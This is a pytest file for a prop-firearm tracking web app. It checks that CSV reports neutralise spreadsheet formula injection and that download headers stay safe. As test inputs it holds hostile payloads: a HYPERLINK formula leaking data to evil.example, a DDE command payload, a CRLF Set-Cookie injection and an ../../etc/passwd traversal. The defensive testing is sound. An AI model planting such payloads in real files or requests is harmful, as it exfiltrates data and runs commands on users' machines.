"""Downloads built from hostile IDs: no formula reaches a spreadsheet, no header breaks."""

from __future__ import annotations

import csv
import io
from typing import Any
from urllib.parse import quote, unquote

import httpx
import pytest

from showclear.app.demo import PINS
from showclear.domain.commands import RegisterFirearm
from showclear.reports.csv_out import FORMULA_STARTS, neutralise
from showclear.web.routes.reports import attachment
from web.support import Live

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # full-width equals sign
]


def post(client: httpx.Client, body: dict[str, Any]) -> None:
    r = client.post("/api/productions/demo/commands", json=body)
    assert r.status_code == 200, (body, r.text)


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.both_backends
def test_formula_payloads_in_ids_and_vendor_fields_are_neutralised(live: Live) -> None:
    arm = live.client("arm", PINS["arm"])
    prod = live.client("prod", PINS["prod"])
    for i, f in enumerate(FORMULAS):
        # A tab or CR may be in text, never in an ID.
        fid = f"{f}#{i}" if f[0] not in "\t\r" else f"id-{i}"
        # The demo takes firearms and rounds from approved vendors only (SC-V01).
        post(prod, {"type": "approve_vendor", "vendor": fid, "name": f, "licence": f,
                    "licence_expires": "2099-12-31", "agreed_by": "arm"})  # fmt: skip
        post(arm, {"type": "register_firearm", "firearm": fid, "kind": "rubber",
                   "caliber": f, "make": f, "serial": f, "vendor": fid,
                   "invoice": f})  # fmt: skip
        post(arm, {"type": "receive_ammo", "lot": f"@{fid}", "kind": "dummy", "caliber": f,
                   "count": 10, "vendor": fid, "invoice": f})  # fmt: skip
    for report in ("daily", "reconciliation"):
        r = arm.get(f"/p/demo/reports/{report}.csv")
        assert r.status_code == 200, r.text
        rows = cells(r.text)
        found = [c for row in rows for c in row if any(f in c for f in FORMULAS)]
        assert found, f"the payloads are in {report}.csv"
        for row in rows[1:]:
            for cell in row:
                if cell.startswith(FORMULA_STARTS):
                    # Only a number may start with + or -: a spreadsheet reads it as a number.
                    float(cell)
    # The quoted text is still the text.
    assert neutralise("=1+1") == "'=1+1" and neutralise(-3) == "-3" and neutralise("ok") == "ok"


@pytest.mark.both_backends
def test_download_names_from_ids_are_safe_headers(live: Live) -> None:
    arm = live.client("arm", PINS["arm"])
    odd = ["grün-中文-ü", 'say "cheese"', "semi;colon,comma"]
    for f in odd:
        post(arm, {"type": "register_firearm", "firearm": f, "kind": "rubber", "caliber": "x",
                   "vendor": "acme-props"})  # fmt: skip
    # A NUL in an ID: the parser refuses it now, but a store written before the limits may
    # hold one, so it is written here around the parser, as an older version would have.
    nul = "nul\x00id"
    runtime = live.ctx.app
    at = runtime.call(runtime.state, "demo").now
    command = RegisterFirearm(actor="arm", at=at, at_text=at.isoformat(), firearm=nul,
                              kind="rubber", caliber="x", vendor="acme-props")  # fmt: skip
    assert runtime.call(runtime.service.execute, "demo", command).verdict == "accepted"
    for f in [*odd, nul]:
        for fmt in ("csv", "pdf"):
            r = arm.get(f"/p/demo/reports/firearm.{fmt}?firearm={quote(f)}")
            assert r.status_code == 200, (f, r.text[:200])
            header = r.headers["content-disposition"]
            header.encode("latin-1")  # a header the client could read at all
            assert header.startswith("attachment; ")
            plain = header.split('filename="', 1)[1].split('"', 1)[0]
            assert plain.isascii() and '"' not in plain and "\x00" not in plain
            utf8 = header.split("filename*=UTF-8''", 1)[1]
            name = unquote(utf8)
            assert name.endswith(f".{fmt}") and "\x00" not in name
            if f != nul:
                assert f in name  # the real name survives in filename*


def test_attachment_header_never_carries_controls_quotes_or_paths() -> None:
    for name in ['a"b.csv', "x\r\nSet-Cookie: a=b.csv", "../../etc/passwd", "é\ud800.pdf"]:
        header = attachment(name)
        header.encode("latin-1")
        assert "\r" not in header and "\n" not in header
        plain = header.split('filename="', 1)[1].split('"', 1)[0]
        assert "/" not in plain and '"' not in plain
        assert "/" not in unquote(header.split("''", 1)[1])
